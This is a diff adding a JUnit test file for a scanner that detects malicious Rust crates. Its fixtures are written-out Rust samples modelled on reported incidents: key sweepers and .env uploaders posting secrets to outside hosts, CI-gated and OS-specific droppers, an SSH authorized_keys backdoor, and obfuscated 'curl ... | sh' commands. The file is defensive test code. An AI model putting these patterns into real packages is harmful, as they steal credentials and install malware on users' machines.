@@ -1,0 +1,223 @@
+package dev.warden.evaluate.scan;
+
+import dev.warden.core.Finding;
+import dev.warden.evaluate.source.CrateDirectory;
+import dev.warden.evaluate.source.TreeLimits;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Path;
+import java.util.Base64;
+import java.util.List;
+import java.util.stream.Collectors;
+
+import static dev.warden.testing.Fixtures.write;
+import static org.assertj.core.api.Assertions.assertThat;
+
+/**
+ * Crates written from the public descriptions of real malicious crates (RustSec advisories and the crates.io team's
+ * incident posts): the shape of each payload, not its code. Each must be flagged at the stated severity, with the
+ * chain's steps as evidence.
+ */
+class RealIncidentsTest {
+
+    @TempDir
+    Path dir;
+
+    private CrateScan scan(String name, String file, String source) {
+        Path crate = dir.resolve(name);
+        write(crate, "Cargo.toml", "[package]\nname = \"" + name + "\"\nversion = \"0.1.0\"\nedition = \"2021\"\n");
+        write(crate, file, source);
+        return CrateScanner.scan(CrateDirectory.read(crate, TreeLimits.DEFAULT), false, null);
+    }
+
+    private static Finding finding(CrateScan scan, String id) {
+        return scan.findings().stream().filter(f -> f.id().equals(id)).findFirst()
+                .orElseThrow(() -> new AssertionError(id + " not in " + scan.findings().stream()
+                        .map(f -> f.id() + ":" + f.severity().label()).collect(Collectors.joining(", "))));
+    }
+
+    private static List<Integer> lines(Finding finding) {
+        return finding.evidence().stream().map(e -> e.line()).toList();
+    }
+
+    /** faster_log / async_println (2025): library code sweeps source files for private keys and posts them. */
+    @Test
+    void aKeySweeperInLibraryCodeIsHigh() {
+        CrateScan scan = scan("faster_log", "src/lib.rs", """
+                use std::fs;
+                pub fn init() {
+                    let mut found = Vec::new();
+                    for entry in walkdir::WalkDir::new(".") {
+                        let text = fs::read_to_string(entry.unwrap().path()).unwrap_or_default();
+                        let eth = regex::Regex::new(r"0x[0-9a-fA-F]{64}").unwrap();
+                        found.extend(eth.find_iter(&text).map(|m| m.as_str().to_string()));
+                    }
+                    let _ = reqwest::blocking::Client::new()
+                        .post("https://mainnet.solana-rpc-pool.workers.dev/")
+                        .body(found.join("\\n")).send();
+                }
+                """);
+        Finding finding = finding(scan, "library-exfiltration");
+        assertThat(finding.severity().label()).isEqualTo("high");
+        assertThat(finding.message()).contains("workers.dev");
+        assertThat(lines(finding)).contains(4, 6, 9);
+    }
+
+    /** rustdecimal (RUSTSEC-2022-0042): only under GitLab CI, downloads a binary, makes it executable, runs it. */
+    @Test
+    void aCiGatedDropperIsCritical() {
+        CrateScan scan = scan("rustdecimal", "src/lib.rs", """
+                use std::os::unix::fs::PermissionsExt;
+                pub fn new(value: i64) -> i64 {
+                    if std::env::var("GITLAB_CI").is_ok() {
+                        let body = reqwest::blocking::get("https://oiio.s3.amazonaws.com/git-updater.bin")
+                            .and_then(|r| r.bytes()).unwrap_or_default();
+                        std::fs::write("/tmp/git-updater.bin", &body).ok();
+                        let _ = std::fs::set_permissions("/tmp/git-updater.bin",
+                            std::fs::Permissions::from_mode(0o755));
+                        let _ = std::process::Command::new("/tmp/git-updater.bin").spawn();
+                    }
+                    value
+                }
+                """);
+        Finding finding = finding(scan, "dropper-chain");
+        assertThat(finding.severity().label()).isEqualTo("critical");
+        assertThat(finding.message()).contains("only in CI", "GITLAB_CI");
+        assertThat(lines(finding)).contains(3, 4, 6, 7);
+    }
+
+    /** The polymarket-* family (2025): private keys from the environment, sent to a server of the author's. */
+    @Test
+    void privateKeysFromTheEnvironmentSentOutAreHigh() {
+        CrateScan scan = scan("polymarket-clients-sdk", "src/lib.rs", """
+                pub fn connect() {
+                    let keys: Vec<String> = ["POLYMARKET_PRIVATE_KEY", "WALLET_PRIVATE_KEY"].iter()
+                        .filter_map(|k| std::env::var(k).ok()).collect();
+                    let _ = ureq::post("https://api.polymarket-sync.xyz/v1/session").send_string(&keys.join(","));
+                }
+                """);
+        assertThat(finding(scan, "library-exfiltration").severity().label()).isEqualTo("high");
+    }
+
+    /** time_calibrator / chrono_anchor (2026): looks for .env files up from the working directory and uploads them. */
+    @Test
+    void anEnvFileUploaderIsHigh() {
+        CrateScan scan = scan("chrono_anchor", "src/lib.rs", """
+                pub fn calibrate() {
+                    let mut dir = std::env::current_dir().unwrap();
+                    loop {
+                        let candidate = dir.join(".env");
+                        if let Ok(text) = std::fs::read_to_string(&candidate) {
+                            let _ = ureq::post("https://timeapi-sync.online/calibrate").send_string(&text);
+                        }
+                        if !dir.pop() { break; }
+                    }
+                }
+                """);
+        assertThat(finding(scan, "library-exfiltration").severity().label()).isEqualTo("high");
+    }
+
+    /** microsoftsystem64 (2025): writes the attacker's key into ~/.ssh/authorized_keys, path built in pieces. */
+    @Test
+    void anAuthorizedKeysWriteIsPersistence() {
+        CrateScan scan = scan("microsoftsystem64", "src/lib.rs", """
+                use std::io::Write;
+                pub fn setup() {
+                    let home = dirs::home_dir().unwrap();
+                    let path = home.join(".ssh").join("authorized_keys");
+                    let mut file = std::fs::OpenOptions::new().append(true).create(true).open(path).unwrap();
+                    let _ = file.write_all(b"ssh-ed25519 AAAAC3Nza... attacker\\n");
+                }
+                """);
+        Finding finding = finding(scan, "persistence-write");
+        assertThat(finding.severity().label()).isEqualTo("high");
+        assertThat(finding.message()).contains(".ssh/authorized_keys");
+    }
+
+    /** evm-units (2025): fetches a payload for the platform it runs on, writes it, runs it detached. */
+    @Test
+    void anOsSpecificDownloaderIsADropper() {
+        CrateScan scan = scan("evm-units", "src/lib.rs", """
+                pub fn units() {
+                    let url = if cfg!(target_os = "windows") { "http://185.212.44.1/w.exe" }
+                        else { "http://185.212.44.1/l" };
+                    let body = ureq::get(url).call().unwrap().into_string().unwrap();
+                    let target = std::env::temp_dir().join("evm-helper");
+                    std::fs::write(&target, body).unwrap();
+                    let _ = std::process::Command::new("nohup").arg(&target).spawn();
+                }
+                """);
+        assertThat(finding(scan, "dropper-chain").severity().label()).isEqualTo("high");
+    }
+
+    @Test
+    void aProcMacroThatTurnsOffTlsNextToSecretsIsFlagged() {
+        CrateScan scan = scan("tls-helper", "src/lib.rs", """
+                pub fn client() -> reqwest::Client {
+                    let token = std::env::var("GITHUB_TOKEN").unwrap_or_default();
+                    let _ = std::env::var("AWS_SECRET_ACCESS_KEY");
+                    reqwest::Client::builder().danger_accept_invalid_certs(true).build().unwrap()
+                }
+                """);
+        assertThat(finding(scan, "tls-verification-disabled").severity().label()).isEqualTo("high");
+        assertThat(finding(scan, "library-exfiltration").message()).contains("TLS verification off");
+    }
+
+    /** Textbook variants: a secret name from a decimal byte array, a host from three format! pieces. */
+    @Test
+    void namesAndHostsBuiltInPiecesAreSeen() {
+        CrateScan scan = scan("builder", "build.rs", """
+                fn main() {
+                    let name = String::from_utf8(vec![65, 87, 83, 95, 83, 69, 67, 82, 69, 84, 95, 65, 67, 67, 69,
+                        83, 83, 95, 75, 69, 89]).unwrap();
+                    let value = std::env::var(&name).unwrap_or_default();
+                    let host = format!("{}.{}.{}", "collect", "drop-zone", "xyz");
+                    let _ = std::net::ToSocketAddrs::to_socket_addrs(&format!("{}:53", host));
+                    println!("{}", value);
+                }
+                """);
+        Finding exfil = finding(scan, "exfiltration-pattern");
+        assertThat(exfil.severity().label()).isEqualTo("critical");
+        assertThat(exfil.message()).contains("AWS_SECRET_ACCESS_KEY");
+        assertThat(scan.capabilities().toString()).contains("AWS_SECRET_ACCESS_KEY (decoded from a byte array)");
+        assertThat(scan.findings().stream().flatMap(f -> f.evidence().stream()).map(e -> e.excerpt()).toList())
+                .contains("collect.drop-zone.xyz");
+    }
+
+    @Test
+    void base64SplitIntoFourFragmentsIsDecodedAfterJoining() {
+        String encoded = Base64.getEncoder().encodeToString("GITHUB_TOKEN".getBytes(StandardCharsets.UTF_8));
+        int quarter = encoded.length() / 4;
+        CrateScan scan = scan("fragments", "build.rs", """
+                fn main() {
+                    let name = ["%s", "%s", "%s", "%s"].concat();
+                    let decoded = base64::decode(&name).unwrap();
+                    let secret = std::env::var(String::from_utf8(decoded).unwrap()).unwrap_or_default();
+                    let _ = std::net::TcpStream::connect("198.51.100.7:443");
+                    drop(secret);
+                }
+                """.formatted(encoded.substring(0, quarter), encoded.substring(quarter, 2 * quarter),
+                encoded.substring(2 * quarter, 3 * quarter), encoded.substring(3 * quarter)));
+        assertThat(finding(scan, "obfuscated-literal").message()).contains("GITHUB_TOKEN");
+        assertThat(finding(scan, "exfiltration-pattern").severity().label()).isEqualTo("critical");
+    }
+
+    @Test
+    void xorWithAConstantKeyIsUndone() {
+        byte[] plain = "curl -s http://203.0.113.5/x | sh".getBytes(StandardCharsets.UTF_8);
+        StringBuilder array = new StringBuilder();
+        for (byte b : plain) {
+            array.append(array.isEmpty() ? "" : ", ").append(b ^ 0x5A);
+        }
+        CrateScan scan = scan("xor", "build.rs", """
+                fn main() {
+                    let command: String = [%s].iter().map(|b| (b ^ 0x5A) as char).collect();
+                    let _ = std::process::Command::new("sh").arg("-c").arg(command).status();
+                }
+                """.formatted(array));
+        assertThat(finding(scan, "obfuscated-literal").message()).contains("curl -s http://203.0.113.5/x | sh");
+        assertThat(finding(scan, "spawns-network-tool").severity().label()).isEqualTo("high");
+    }
+}
